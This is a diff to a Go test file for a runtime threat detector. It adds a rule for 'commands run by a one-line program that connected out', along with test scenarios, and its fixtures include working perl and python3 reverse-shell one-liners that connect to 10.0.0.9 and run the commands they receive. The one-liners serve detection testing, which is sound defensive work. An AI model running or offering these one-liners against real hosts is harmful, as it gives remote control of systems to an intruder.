@@ -64,6 +64,7 @@ func scenarios() []scenario {
 		relay      = "Socket relay started a shell"
 		fedShell   = "Shell fed by a program that connected out"
 		ttylessSh  = "Interactive shell on pipes"
+		loopShell  = "Commands run by a one-line program that connected out"
 		pipeShell  = "Shell piped to a network client"
 		newBin     = "New binary executed in a container"
 		upperBin   = "Binary from the container's writable layer executed"
@@ -225,6 +226,8 @@ func scenarios() []scenario {
 	socatSh := childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), socatP)
 	app := proc("python3", "/usr/bin/python3", "python3", "app.py")
 	appSh := childOf(proc("sh", "/bin/dash", "sh", "-c", "convert a.png b.jpg"), app)
+	perlLoop := proc("perl", "/usr/bin/perl", "perl", "-e", `use IO::Socket;$c=IO::Socket::INET->new("10.0.0.9:4444");while(<$c>){print $c `+"`$_`"+`}`)
+	pyLoop := proc("python3", "/usr/bin/python3.12", "python3", "-u", "-c", "import socket,subprocess\ns=socket.create_connection(('10.0.0.9',443))\nwhile True:\n    s.sendall(subprocess.getoutput(s.recv(1024)))")
 	runner := proc("gitlab-runner", "/usr/bin/gitlab-runner", "gitlab-runner", "run")
 	runnerSh := childOf(proc("bash", "/usr/bin/bash", "bash", "--login"), runner)
 	resolver := proc("agent", "/tmp/agent2", "./agent2")
@@ -256,6 +259,21 @@ func scenarios() []scenario {
 		scenario{"ssh host bash -i, a remote login without a terminal, is not", ttylessSh, false,
 			evs(execEv(withParents(proc("bash", "/usr/bin/bash", "bash", "-i"), anc{"bash", "/usr/bin/bash"}, anc{"sshd-session", "/usr/lib/openssh/sshd-session"}),
 				stdio("pipe", "pipe", "pipe"))), nil},
+		scenario{"perl -e reading commands from a socket and running them in backticks (no shell)", loopShell, true,
+			evs(connectEv(perlLoop, "10.0.0.9", 4444), execEv(childOf(proc("id", "/usr/bin/id", "id"), perlLoop), after(time.Second))), []int{0, 1}},
+		scenario{"python3 -u -c with subprocess.getoutput", loopShell, true,
+			evs(connectEv(pyLoop, "10.0.0.9", 443, failed("EINPROGRESS", 115)), execEv(childOf(proc("sh", "/usr/bin/dash", "/bin/sh", "-c", "uname -a"), pyLoop), after(time.Second))), []int{0, 1}},
+		scenario{"an application from a script file that calls its API and runs sh -c is not", loopShell, false,
+			evs(connectEv(app, "10.0.3.4", 443), execEv(appSh, after(time.Second))), nil},
+		scenario{"a one-liner that only resolves a name before running sh is not", loopShell, false,
+			evs(func() *vigilv1.Event {
+				e := connectEv(pyLoop, "10.0.0.2", 53)
+				e.GetConnect().Protocol = "udp"
+				return e
+			}(),
+				execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), pyLoop), after(time.Second))), nil},
+		scenario{"a perl text filter (perl -pe) running date without a connection is not", loopShell, false,
+			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "date"), proc("perl", "/usr/bin/perl", "perl", "-pe", "s/x/y/")))), nil},
 		scenario{"a shell with no earlier connection is a partial sequence", fedShell, false,
 			evs(execEv(childOf(proc("sh", "/bin/dash", "sh"), proc("make", "/usr/bin/make", "make")), stdio("pipe", "pipe", "pipe"))), nil},
 	)
@@ -1030,6 +1048,7 @@ var wantType = map[string]string{
 	"Reverse shell by duplicating a socket onto standard streams": "Execution:Runtime/ReverseShell",
 	"Socket relay started a shell":                                "Execution:Runtime/ReverseShell",
 	"Interactive shell on pipes":                                  "Execution:Runtime/ReverseShell",
+	"Commands run by a one-line program that connected out":       "Execution:Runtime/ReverseShell",
 	"Shell fed by a program that connected out":                   "Execution:Runtime/ReverseShell",
 	"Shell piped to a network client":                             "Execution:Runtime/ReverseShell",
 	"New binary executed in a container":                          "Execution:Runtime/NewBinaryExecuted",
